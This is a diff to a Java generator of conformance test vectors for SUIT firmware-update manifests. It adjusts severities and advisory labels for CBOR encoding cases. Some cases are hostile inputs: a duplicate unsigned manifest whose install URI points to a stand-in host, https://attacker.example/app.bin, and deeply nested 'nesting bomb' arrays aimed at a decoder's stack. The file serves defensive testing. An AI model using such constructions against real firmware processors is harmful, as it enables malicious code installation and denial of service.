@@ -5,6 +5,7 @@ import dev.suitcase.vectors.cbor.CborWriter;
 import dev.suitcase.vectors.cbor.HeadWidth;
 import dev.suitcase.vectors.cbor.MajorType;
 import dev.suitcase.vectors.generate.BuiltCase;
+import dev.suitcase.vectors.model.Advisory;
 import dev.suitcase.vectors.model.Bytes;
 import dev.suitcase.vectors.model.Expectation;
 import dev.suitcase.vectors.model.ExpectedResult;
@@ -41,6 +42,23 @@ final class SuitEncodingCases {
     private static final int SEQUENCE_BOMB_DEPTH = 40;
     /** An envelope extension key no specification assigns. */
     private static final long UNASSIGNED_ENVELOPE_KEY = 99;
+    /** A manifest extension key no specification assigns. */
+    private static final long UNASSIGNED_MANIFEST_KEY = 99;
+    private static final String MAP_ORDER_RULE = "draft-ietf-suit-manifest-37 §8.1: \"All CBOR maps in the Manifest and"
+            + " manifest envelope MUST be encoded with the canonical CBOR ordering as defined in [RFC8949]\", a rule for"
+            + " encoders; the draft does not tell a recipient to check the order, and the digest and signature cover"
+            + " the bytes as received";
+    private static final String PREFERRED_SERIALIZATION_RULE = "RFC 8949 §4.2.1: in deterministic encoding \"arguments"
+            + " ... for integers ... MUST be as short as possible\", a rule for encoders (§4.1 calls the shortest head"
+            + " preferred serialization); §5.5 asks an application that does not require deterministic encoding to"
+            + " accept longer ones, and draft-ietf-suit-manifest-37 §8.1 requires of SUIT encoders canonical map"
+            + " ordering only";
+    private static final String ENVELOPE_NESTING_RULE = "hardening: no specification bounds the nesting of CBOR items;"
+            + " RFC 8949 §10 names deeply nested items as a way to exhaust a decoder's stack, and this suite expects a"
+            + " processor to bound nesting before anything in the envelope is authenticated";
+    private static final String MANIFEST_NESTING_RULE = "hardening: no specification bounds the nesting of CBOR items;"
+            + " RFC 8949 §10 names deeply nested items as a way to exhaust a decoder's stack, and this suite expects a"
+            + " processor to bound nesting in authenticated input too";
 
     /** {@code depth} nested one-element arrays around 0: [[[...[0]...]]]. */
     private static Bytes nestedArrays(int depth) {
@@ -56,15 +74,19 @@ final class SuitEncodingCases {
         return Envelope.of(f.wrapper(manifest), manifest).encode();
     }
 
-    /** Accepted under cbor-lenient, rejected otherwise for the order of a map. */
+    /**
+     * Accepted under cbor-lenient, rejected otherwise for the order of a map: advisory, since the order is
+     * a rule for encoders.
+     */
     private static BuiltCase unsorted(SuitInput input) {
         return BuiltCase.of(Expectation.reject(Reason.NON_DETERMINISTIC_CBOR)
-                .withProfile(Profile.CBOR_LENIENT, ExpectedResult.ACCEPT), input);
+                .withProfile(Profile.CBOR_LENIENT, ExpectedResult.ACCEPT)
+                .advisory(Advisory.Basis.PRODUCER_RULE, MAP_ORDER_RULE), input);
     }
 
     @SuitCase(area = "cbor", name = "manifest-keys-unsorted",
             title = "{alg}-signed manifest whose map keys are not in canonical order",
-            severity = Severity.MEDIUM,
+            severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
             flags = {"NonCanonical", "ProfileDependent"},
             description = """
@@ -72,9 +94,10 @@ final class SuitEncodingCases {
                     members in the order 1, 2, 3, 9, 7, 20: suit-invoke (9) before suit-validate (7). RFC 8949
                     §4.2.1 order sorts keys by their encoded bytes, so 7 comes before 9.
 
-                    All maps of the manifest MUST be canonical (§8.1): a processor that checks it rejects. A
-                    processor declaring the cbor-lenient profile accepts any order, and the manifest is otherwise
-                    valid. Deterministic encoding is what makes two encoders agree on the bytes that are signed.""")
+                    All maps of the manifest MUST be encoded in canonical order (§8.1), a rule for the encoder: a
+                    processor that checks it rejects, and the suite recommends checking. A processor declaring the
+                    cbor-lenient profile accepts any order, and the manifest is otherwise valid; since the signature
+                    covers the bytes as received, accepting is advisory, not a security failure.""")
     BuiltCase manifestKeysUnsorted(SuitFixture f) {
         Bytes manifest = SuitFixture.baseline().map().sorted().swapped(3, 4).asGiven();
         return unsorted(f.input(signedRaw(f, manifest), SuitFixture.device(), Scope.APPLICABILITY));
@@ -82,15 +105,15 @@ final class SuitEncodingCases {
 
     @SuitCase(area = "cbor", name = "common-keys-unsorted",
             title = "{alg}-signed manifest whose suit-common lists the shared sequence before the components",
-            severity = Severity.MEDIUM,
+            severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
             flags = {"NonCanonical", "ProfileDependent"},
             description = """
                     The baseline manifest signed with {alg}, except that its suit-common map holds
                     suit-shared-sequence (4) before suit-components (2).
 
-                    A processor checking canonical maps (§8.1) rejects; under the cbor-lenient profile it
-                    accepts.""")
+                    A processor checking canonical maps (§8.1, a rule for encoders) rejects; under the cbor-lenient
+                    profile it accepts. Accepting is advisory.""")
     BuiltCase commonKeysUnsorted(SuitFixture f) {
         Bytes common = SuitFixture.common(SuitFixture.shared()).map().sorted().swapped(0, 1).asGiven();
         Manifest manifest = SuitFixture.baseline().withMember(ManifestKey.COMMON, CborValue.bytes(common));
@@ -99,15 +122,15 @@ final class SuitEncodingCases {
 
     @SuitCase(area = "cbor", name = "parameters-unsorted",
             title = "{alg}-signed manifest whose override-parameters map is not in canonical order",
-            severity = Severity.MEDIUM,
+            severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps", "SUITM-8.4.10.3-override"},
             flags = {"NonCanonical", "ProfileDependent"},
             description = """
                     The baseline manifest signed with {alg}, except that the override-parameters of its shared
                     sequence list class-id (2) before vendor-id (1).
 
-                    A processor checking canonical maps (§8.1) rejects; under the cbor-lenient profile it
-                    accepts.""")
+                    A processor checking canonical maps (§8.1, a rule for encoders) rejects; under the cbor-lenient
+                    profile it accepts. Accepting is advisory.""")
     BuiltCase parametersUnsorted(SuitFixture f) {
         Bytes parameters = SuitFixture.imageParameters().map().sorted().swapped(0, 1).asGiven();
         CommandSequence shared = CommandSequence.empty().command(Command.OVERRIDE_PARAMETERS, parameters)
@@ -117,15 +140,15 @@ final class SuitEncodingCases {
 
     @SuitCase(area = "cbor", name = "envelope-keys-unsorted",
             title = "{alg} envelope with an integrated payload placed between wrapper and manifest",
-            severity = Severity.MEDIUM,
+            severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
             flags = {"NonCanonical", "ProfileDependent", "IntegratedPayload"},
             description = """
                     The integrated-payload envelope signed with {alg}, with its elements in the order 2, "#app.bin",
                     3: canonical order puts integer keys before text keys. The wrapper still comes first.
 
-                    A processor checking canonical maps (§8.1) rejects; under the cbor-lenient profile it installs
-                    the integrated payload and accepts.""")
+                    A processor checking canonical maps (§8.1, a rule for encoders) rejects; under the cbor-lenient
+                    profile it installs the integrated payload and accepts. Accepting is advisory.""")
     BuiltCase envelopeKeysUnsorted(SuitFixture f) {
         Envelope envelope = SuitImageCases.integratedEnvelope(f);
         Bytes encoded = new CborWriter().tag(Tag.ENVELOPE).raw(envelope.map().sorted().swapped(1, 2).asGiven()).toBytes();
@@ -134,20 +157,24 @@ final class SuitEncodingCases {
 
     @SuitCase(area = "cbor", name = "manifest-non-minimal-integer",
             title = "{alg}-signed manifest with its sequence number in a longer head than needed",
-            severity = Severity.MEDIUM,
+            severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
             flags = {"NonCanonical"},
             description = """
                     The baseline manifest signed with {alg}, with the sequence number 7 encoded as 0x18 0x07 (a
                     one-byte argument) instead of 0x07. Deterministic encoding requires the shortest head (RFC 8949
-                    §4.2.1), which §8.1 makes mandatory for SUIT.
+                    §4.2.1), a rule for encoders; draft-ietf-suit-manifest-37 §8.1 requires of SUIT maps canonical
+                    ordering, and says nothing of integer heads, and RFC 8949 §5.5 asks an application that does not
+                    require deterministic encoding to accept longer heads.
 
-                    A processor must reject the manifest (cbor-lenient only relaxes map order). Accepting varied
-                    encodings of one value invites two parsers to disagree about signed content.""")
+                    The reference processor decodes strictly and rejects (cbor-lenient only relaxes map order), and
+                    the suite recommends it: varied encodings of one value invite two parsers to disagree. The
+                    digest and signature cover the bytes as received, so accepting is advisory.""")
     BuiltCase manifestNonMinimalInteger(SuitFixture f) {
         Manifest manifest = SuitFixture.baseline().withEncodedMember(ManifestKey.SEQUENCE_NUMBER,
                 new CborWriter().head(MajorType.UNSIGNED, SuitFixture.MANIFEST_SEQUENCE_NUMBER, HeadWidth.ONE).toBytes());
-        return rejected(Reason.NON_DETERMINISTIC_CBOR, f.input(f.signed(manifest), SuitFixture.device(), Scope.APPLICABILITY));
+        return SuitFixture.rejectedForProducerRule(Reason.NON_DETERMINISTIC_CBOR, PREFERRED_SERIALIZATION_RULE,
+                f.input(f.signed(manifest), SuitFixture.device(), Scope.APPLICABILITY));
     }
 
     @SuitCase(area = "cbor", name = "manifest-duplicate-key",
@@ -171,24 +198,25 @@ final class SuitEncodingCases {
     }
 
     @SuitCase(area = "cbor", name = "envelope-duplicate-manifest",
-            title = "{alg} envelope with two suit-manifest elements, the second unsigned",
+            title = "{alg} envelope with two suit-manifest elements, the first unsigned",
             severity = Severity.CRITICAL,
             requirements = {"SUITM-8.1-unique-keys", "SUITM-8.3-manifest-digest", "RFC9124-REQ.SEC.AUTHENTIC"},
             flags = {"DuplicateKey", "ModifiedManifest"},
             description = """
-                    The baseline envelope signed by the trusted {alg} author, followed by a second suit-manifest (3)
-                    element: the baseline with its install URI pointing to https://attacker.example/app.bin, which
-                    nobody signed.
+                    The baseline envelope signed by the trusted {alg} author, with a second suit-manifest (3) element
+                    before the signed one: the baseline with its install URI pointing to
+                    https://attacker.example/app.bin, which nobody signed.
 
-                    A processor must reject the duplicate key (§8.1, RFC 8949 §5.6). One whose digest check reads the
-                    first manifest and whose interpreter reads the last, as happens when two map lookups behave
-                    differently, authenticates one manifest and runs the other.""")
+                    A processor must reject the duplicate key (§8.1, RFC 8949 §5.6: a decoder that keeps one of the
+                    entries cannot be used where the data can be attacked, and anyone can edit an envelope). One
+                    whose digest check reads the last manifest and whose interpreter reads the first, as happens
+                    when two map lookups behave differently, authenticates one manifest and runs the other.""")
     BuiltCase envelopeDuplicateManifest(SuitFixture f) {
         Envelope envelope = f.envelope(SuitFixture.baseline());
         Bytes attackers = SuitFixture.baseline()
                 .withSequence(ManifestKey.INSTALL, SuitFixture.installFrom("https://attacker.example/app.bin")).encode();
         List<EncodedMap.Entry> entries = new ArrayList<>(envelope.map().sorted().entries());
-        entries.add(new EncodedMap.Entry(CborValue.integer(EnvelopeKey.MANIFEST), CborValue.bytes(attackers).toBytes()));
+        entries.add(1, new EncodedMap.Entry(CborValue.integer(EnvelopeKey.MANIFEST), CborValue.bytes(attackers).toBytes()));
         Bytes encoded = new CborWriter().tag(Tag.ENVELOPE).raw(EncodedMap.of(entries).asGiven()).toBytes();
         return rejected(Reason.DUPLICATE_KEY, f.input(encoded, SuitFixture.device(), Scope.INSTALL));
     }
@@ -234,15 +262,19 @@ final class SuitEncodingCases {
             flags = {"NestingBomb", "ResourceExhaustion"},
             description = """
                     The baseline envelope signed with {alg}, with one more element under key 99: 1000 nested
-                    one-element arrays, [[[...[0]...]]], 1001 bytes, not wrapped in a byte string.
+                    one-element arrays, [[[...[0]...]]], 1001 bytes, not wrapped in a byte string as §8.1 asks of
+                    envelope elements.
 
-                    Before any authentication, a processor must reject it: envelope elements are byte strings
-                    (§8.1), and no SUIT structure nests this deep. A recursive decoder without a depth limit
-                    overflows its stack on a few kilobytes of attacker input.""")
+                    Key 99 is an envelope extension nobody implements, which a processor may ignore, and no
+                    specification bounds nesting: a processor that decodes it all and ignores it is conformant.
+                    The suite recommends rejecting it before any authentication, for a hardening reason that
+                    prevents a real attack: a recursive decoder without a depth limit overflows its stack on a few
+                    kilobytes of input anyone can send.""")
     BuiltCase envelopeNestingBomb(SuitFixture f) {
         Bytes envelope = f.envelope(SuitFixture.baseline()).withEncodedEntry(UNASSIGNED_ENVELOPE_KEY, nestedArrays(BOMB_DEPTH))
                 .encode();
-        return rejected(Reason.RESOURCE_LIMIT, f.input(envelope, SuitFixture.device(), Scope.AUTHENTICATE));
+        return BuiltCase.of(Expectation.reject(Reason.RESOURCE_LIMIT).advisory(Advisory.Basis.HARDENING, ENVELOPE_NESTING_RULE),
+                f.input(envelope, SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
     @SuitCase(area = "cbor", name = "block-nesting-bomb",
@@ -250,6 +282,9 @@ final class SuitEncodingCases {
             severity = Severity.HIGH,
             requirements = {"SUITM-8.3-cose-tagged", "SUITM-8.3-auth-block-required"},
             flags = {"NestingBomb", "ResourceExhaustion"},
+            robustness = """
+                    The only block is nested arrays, not a COSE structure: a processor without a depth limit runs
+                    out of stack or finds no block to verify, so none can go on past it.""",
             description = """
                     The baseline manifest with an authentication wrapper whose only block is a byte string holding
                     1000 nested one-element arrays instead of a COSE structure. The device trusts an {alg} {key}.
@@ -265,20 +300,22 @@ final class SuitEncodingCases {
     }
 
     @SuitCase(area = "cbor", name = "manifest-nesting-bomb",
-            title = "{alg}-signed manifest whose reference URI is 1000 nested arrays",
-            severity = Severity.MEDIUM,
-            requirements = {"SUITM-8.4-member-types"},
+            title = "{alg}-signed manifest with an extension member nested 1000 arrays deep",
+            severity = Severity.LOW,
+            requirements = {"SUITM-8.4-extension-members"},
             flags = {"NestingBomb", "ResourceExhaustion"},
             description = """
-                    The baseline manifest with suit-reference-uri (4), which is a text string, set to 1000 nested
-                    one-element arrays; the trusted {alg} author signed it.
+                    The baseline manifest with one more member under key 99, an extension nobody implements: 1000
+                    nested one-element arrays; the trusted {alg} author signed it.
 
-                    Authentic input can still be hostile (a compromised build server, a buggy authoring tool). A
-                    processor must reject the manifest, whose reference URI is not a text string, without
-                    exhausting its stack while decoding it.""")
+                    A processor may ignore a manifest member it does not implement, and no specification bounds
+                    nesting, so one that decodes it all and ignores it is conformant. Authentic input can still be
+                    hostile (a compromised build server, a buggy authoring tool): the suite recommends rejecting
+                    the manifest without exhausting the stack while decoding it, as hardening.""")
     BuiltCase manifestNestingBomb(SuitFixture f) {
-        Manifest manifest = SuitFixture.baseline().withEncodedMember(ManifestKey.REFERENCE_URI, nestedArrays(BOMB_DEPTH));
-        return rejected(Reason.RESOURCE_LIMIT, f.input(f.signed(manifest), SuitFixture.device(), Scope.AUTHENTICATE));
+        Manifest manifest = SuitFixture.baseline().withEncodedMember(UNASSIGNED_MANIFEST_KEY, nestedArrays(BOMB_DEPTH));
+        return BuiltCase.of(Expectation.reject(Reason.RESOURCE_LIMIT).advisory(Advisory.Basis.HARDENING, MANIFEST_NESTING_RULE),
+                f.input(f.signed(manifest), SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
     @SuitCase(area = "cbor", name = "sequence-nesting-bomb",
@@ -286,6 +323,9 @@ final class SuitEncodingCases {
             severity = Severity.MEDIUM,
             requirements = {"SUITM-8.4.10.2-try-each", "SUITM-8.4.9.5-abort"},
             flags = {"NestingBomb", "ResourceExhaustion", "TryEach"},
+            robustness = """
+                    Every path through the nested try-each ends in abort: a processor without a nesting limit
+                    runs every level and fails, or runs out of stack; none can go on to accept.""",
             description = """
                     A manifest signed with {alg} whose shared sequence, after the vendor and class checks, runs a
                     try-each whose first alternative is another try-each, 40 levels deep; every second alternative
